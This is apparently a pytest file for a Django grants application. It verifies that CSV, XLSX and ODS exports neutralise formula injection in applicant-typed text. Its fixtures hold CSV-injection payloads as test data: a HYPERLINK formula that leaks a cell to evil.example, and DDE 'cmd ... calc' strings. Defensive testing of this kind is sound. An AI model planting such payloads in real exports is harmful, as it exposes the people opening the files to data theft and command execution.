"""CSV injection (issue 8, item 5): applicant-typed text never reaches a CSV as a live formula.

Every CSV path (dossier list, grants, payments, SCDL on the web and through
`guichet export-scdl`, dashboard) writes its cells through `spreadsheets.csv_cell`: a text starting
with = + - @ a tab or a carriage return gets a leading single quote, every text is quoted, and
numbers stay bare numbers. XLSX and ODS store such text as a string cell, never a formula.
"""

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command

from guichet.core import spreadsheets
from guichet.grants.models import Payment
from guichet.review.models import Role
from tests.factories import staff
from tests.opendata.test_opendata import consortium_document, signed_grant, validate

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")'
TITLE = HYPERLINK
LEAD = "+SUM(1+1)*cmd|' /C calc'!A0"
MEMBER_NAMES = [LEAD, "-2+3", "@SUM(A1:A9)", "\t=1+1", "Beta; =1+1, \"cité\"", "Gamma",
                "Delta"]


@pytest.fixture
def grant(deffinum, example_document):
    document = consortium_document(example_document)
    document["title"] = TITLE
    for member, name in zip(document["members"], MEMBER_NAMES, strict=True):
        member["name"] = name
    return signed_grant(deffinum, document)


@pytest.fixture
def instructor_client(client, deffinum):
    client.force_login(staff(deffinum, "instructrice@example.fr", Role.INSTRUCTOR))
    return client


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize(("typed", "written"), [
    ("=1+1", "'=1+1"), ("+33 1 23", "'+33 1 23"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("Titre = sûr", "Titre = sûr"),
    ("", ""), (None, ""),
])
def test_formula_trigger_prefixed_with_single_quote(typed, written):
    assert spreadsheets.csv_cell(typed) == written


def test_negative_amount_written_as_bare_number_never_prefixed():
    content = spreadsheets.to_csv(["texte", "montant", "nombre"],
                             [["-5", Decimal("-1234.5"), -3]]).decode()

    assert content.splitlines()[1] == '"\'-5",-1234.50,-3'


def test_separators_and_quotes_in_text_stay_in_one_quoted_cell():
    content = spreadsheets.to_csv(["a", "b"], [['x"; =1+1, y', "=2"]]).decode()

    assert content.splitlines()[1] == '"x""; =1+1, y","\'=2"'
    assert cells(content.encode())[1] == ['x"; =1+1, y', "'=2"]


def test_dossier_list_csv_export_neutralises_applicant_formulas(
        instructor_client, grant, deffinum):
    response = instructor_client.get("/instruction/appels/deffinum/dossiers/?export=csv")
    content = b"".join(response.streaming_content)

    row = cells(content)[1]
    assert (row[1], row[4]) == ("'" + TITLE, "'" + LEAD)
    assert '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Cliquez"")"' in content.decode()
    assert row[8] == "384569.00"
    assert ",384569.00," in content.decode()  # the amount is a bare number


def test_grants_csv_export_neutralises_applicant_formulas(instructor_client, grant):
    response = instructor_client.get(
        "/instruction/appels/deffinum/subventions/?export=csv&table=grants")

    row = cells(response.content)[1]
    assert (row[1], row[2]) == ("'" + TITLE, "'" + LEAD)
    assert (row[4], row[6]) == ("384569.00", "192284.50")
    assert ",384569.00," in response.content.decode()


def test_payments_csv_export_neutralises_typed_reference(instructor_client, grant):
    Payment.objects.filter(tranche__grant=grant).update(reference="=cmd|' /C calc'!A0")

    response = instructor_client.get(
        "/instruction/appels/deffinum/subventions/?export=csv&table=payments")

    line = response.content.decode().splitlines()[1]
    assert line.endswith(',192284.50,"2022-01-20","\'=cmd|\' /C calc\'!A0","versement",""')


def test_scdl_web_export_neutralises_member_names_and_still_validates(
        instructor_client, grant):
    response = instructor_client.get("/instruction/appels/deffinum/subventions/?export=scdl")

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert [row["nomBeneficiaire"] for row in rows] == [
        "'" + LEAD, "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", 'Beta; =1+1, "cité"', "Gamma", "Delta"]
    assert rows[0]["montant"] == "384569.00"  # the whole grant, on each member's row
    assert ',384569.00,' in response.content.decode()  # a number, bare
    assert validate(response.content).valid


def test_scdl_command_neutralises_member_names(grant):
    stdout = io.StringIO()

    call_command("export_scdl", "deffinum", stdout=stdout)

    rows = list(csv.DictReader(io.StringIO(stdout.getvalue())))
    assert rows[0]["nomBeneficiaire"] == "'" + LEAD
    assert rows[3]["nomBeneficiaire"] == "'\t=1+1"
    assert validate(stdout.getvalue().encode()).valid


def test_dashboard_csv_written_by_the_same_writer(client, deffinum, grant):
    client.force_login(staff(deffinum, "finance@example.fr", Role.ADMINISTRATOR))

    response = client.get("/instruction/tableau-de-bord/?csv=money")

    lines = response.content.decode().splitlines()
    assert lines[0] == '"Périmètre","Enveloppe","Engagé","Versé","Reste à engager"'
    assert any(",384569.00,192284.50," in line for line in lines[1:])


def test_xlsx_exports_store_applicant_formulas_as_text(instructor_client, grant):
    dossiers = instructor_client.get("/instruction/appels/deffinum/dossiers/?export=xlsx")
    grants = instructor_client.get(
        "/instruction/appels/deffinum/subventions/?export=xlsx&table=grants")

    for content in (dossiers.getvalue(), grants.content):
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        title = sheet.cell(row=2, column=2)
        assert (title.value, title.data_type) == (TITLE, "s")


def test_ods_export_stores_applicant_formulas_as_text(instructor_client, grant):
    response = instructor_client.get(
        "/instruction/appels/deffinum/subventions/?export=ods&table=grants")

    content = zipfile.ZipFile(io.BytesIO(response.content)).read("content.xml").decode()
    assert "table:formula" not in content
    assert ('office:value-type="string"><text:p>=HYPERLINK("http://evil.example/?d="&amp;A1,'
            '"Cliquez")</text:p>') in content
